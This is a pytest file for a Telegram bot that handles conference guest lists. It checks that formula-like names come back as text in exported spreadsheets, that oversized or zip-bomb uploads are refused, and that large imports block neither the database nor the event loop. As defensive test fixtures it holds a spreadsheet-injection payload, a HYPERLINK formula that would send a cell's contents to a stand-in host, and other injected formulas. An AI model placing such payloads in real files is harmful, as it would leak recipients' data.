"""Hostile spreadsheets through the real Application: formula-looking names come back as text in every file an
organiser gets, a guest list over a limit is refused naming it, and reading a big list stalls nobody.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import io
import sqlite3
import threading
import time
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.engine import make_url

from bench.hostile_spreadsheets import legal_guest_list, many_sheets, wide_row, zip_bomb
from bot.playground.harness import ChatUser, Playground
from rules import accounts
from rules.plans import SEED_PLAN, apply_plan, load_plan_file
from rules.text import fold
from storage.models import Campaign, Conference, Invitation, InvitationImport, Nomination, OrgUnit

DISTRICT = "Hội nghị Điển hình tiên tiến"
NAME = '=HYPERLINK("http://x/?"&B2,"Bấm")'
NOTHING_IMPORTED = "\n\nChưa nhập gì. Vui lòng sửa tệp rồi gửi lại."


@pytest.fixture
async def plan(playground: Playground) -> None:
    async with playground.services.database.transaction() as db:
        await apply_plan(db, load_plan_file(SEED_PLAN))


async def _count(playground: Playground, model: Any) -> int:
    async with playground.services.database.transaction() as db:
        return int(await db.scalar(select(func.count()).select_from(model)) or 0)


async def _approved_nomination(playground: Playground, **fields: Any) -> None:
    now = dt.datetime.now(dt.UTC)
    async with playground.services.database.transaction() as db:
        nominator = await accounts.ensure_telegram_account(
            db, telegram_user_id=1001, display_name="Lan", username=None, organiser_ids=(), now=now
        )
        db.add(
            Nomination(
                code="DH-2020-0001",
                campaign_id=await db.scalar(select(Campaign.id).where(Campaign.code == "tay-ho-2020")),
                conference_id=await db.scalar(select(Conference.id).where(Conference.code == "district")),
                unit_id=await db.scalar(select(OrgUnit.id).where(OrgUnit.code == "buoi")),
                nominator_id=nominator.id,
                status="approved",
                kind="individual",
                nominee_fold=fold(fields["nominee_name"]),
                gender="nu",
                birth_year=1981,
                submitted_at=now,
                decided_at=now,
                **fields,
            )
        )


def _workbook_cells(data: bytes | None) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data or b""))
    return [cell for page in book.worksheets for row in page.iter_rows() for cell in row]


async def _file(user: ChatUser, command: str) -> list[Any]:
    document = (await user.send(command))[-1]
    assert document.method == "sendDocument", document.text
    return _workbook_cells(document.file_bytes)


async def test_names_and_positions_that_look_like_formulas_stay_text_in_every_file(playground, plan, organiser):
    await _approved_nomination(
        playground, nominee_name=NAME, position="=1+1", workplace="@SUM(A1:A2)", phone_e164="+84912345678"
    )
    await organiser.send("/invite DH-2020-0001")
    await organiser.press("Đồng ý, mời 1 người")
    guests = "Họ và tên;Năm sinh;Đơn vị;Chức vụ\nTrần Văn Bình;1975;Phường Bưởi;=A1*2\n".encode()
    await organiser.send_document(guests, "khach.csv")
    await organiser.press(DISTRICT)
    await organiser.send("1")
    async with playground.services.database.transaction() as db:
        for invitation in (await db.scalars(select(Invitation))).all():
            invitation.status = "accepted"

    files = {
        "/invitations district": {NAME},
        "/attendance district": {NAME, "=1+1", "=A1*2"},
        "/export district": {NAME, "=1+1", "=A1*2", "@SUM(A1:A2)", "+84912345678"},
    }
    for command, typed in files.items():
        cells = await _file(organiser, command)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], command
        assert typed <= {cell.value for cell in cells}, command


@pytest.mark.parametrize(
    ("build", "refusal"),
    [
        (lambda: wide_row(1000), "Dòng 1 có hơn 100 cột. Vui lòng xoá các cột không cần thiết rồi gửi lại tệp."),
        (
            lambda: many_sheets(21, rows=1, columns=1),
            "Bảng tính có hơn 20 trang tính. Vui lòng gửi danh sách khách mời trong một bảng tính có ít trang tính hơn.",
        ),
        (
            lambda: zip_bomb(30 * 1024 * 1024),
            "Khi giải nén, một thành phần của tệp có dung lượng 30.0 MB, vượt quá giới hạn 25 MB. "
            "Vui lòng chỉ gửi danh sách khách mời.",
        ),
    ],
    ids=["columns", "sheets", "zip bomb"],
)
async def test_a_guest_list_over_a_limit_is_refused_naming_it_and_nothing_is_staged(
    playground, plan, organiser, build, refusal
):
    await organiser.send_document(build(), "khach-moi.xlsx")
    refused = await organiser.press(DISTRICT)

    assert [message.text for message in refused] == [refusal + NOTHING_IMPORTED]
    assert await _count(playground, InvitationImport) == 0
    after = await organiser.send("1")  # no question is left open
    assert after[-1].text == "Tôi chưa hiểu ý bạn. Gõ /help để xem tôi có thể giúp gì."


class LockProbe(threading.Thread):
    """Another connection asking for SQLite's write lock every 5 ms without waiting: the longest stretch
    during which it could not have it."""

    def __init__(self, path: str) -> None:
        super().__init__(daemon=True)
        self.path = path
        self.stop = threading.Event()
        self.longest_locked = 0.0

    def run(self) -> None:
        connection = sqlite3.connect(self.path, timeout=0, isolation_level=None)
        locked_since: float | None = None
        while not self.stop.is_set():
            try:
                connection.execute("BEGIN IMMEDIATE")
                connection.execute("ROLLBACK")
                locked_since = None
            except sqlite3.OperationalError:
                now = time.perf_counter()
                locked_since = locked_since or now
                self.longest_locked = max(self.longest_locked, now - locked_since)
            time.sleep(0.005)
        connection.close()


@pytest.mark.sqlite_only
async def test_while_a_big_guest_list_is_read_other_writers_and_the_event_loop_go_on(playground, plan, organiser):
    # 2,000 people with 40 more columns: slow to read (each cell is parsed), quick to check and stage.
    data = legal_guest_list(2000, extra_columns=40)
    await organiser.send_document(data, "khach-moi.xlsx")
    probe = LockProbe(str(make_url(playground.services.database.url).database))
    probe.start()
    lag = 0.0

    async def tick() -> None:
        nonlocal lag
        while True:
            before = time.perf_counter()
            await asyncio.sleep(0.01)
            lag = max(lag, time.perf_counter() - before - 0.01)

    ticker = asyncio.create_task(tick())
    started = time.perf_counter()
    report = await organiser.press(DISTRICT)
    seconds = time.perf_counter() - started
    ticker.cancel()
    probe.stop.set()
    await asyncio.to_thread(probe.join)

    assert report[0].text.startswith("Danh sách khách mời “khach-moi.xlsx” cho Hội nghị Điển hình tiên tiến: đã đọc 2")
    assert "✅ Sẵn sàng để mời: 2.000 người." in report[0].text
    assert seconds > 0.5  # the reading took a while …
    assert probe.longest_locked < 0.4, probe.longest_locked  # … and held no write lock meanwhile
    assert lag < 0.4, lag  # … nor the event loop
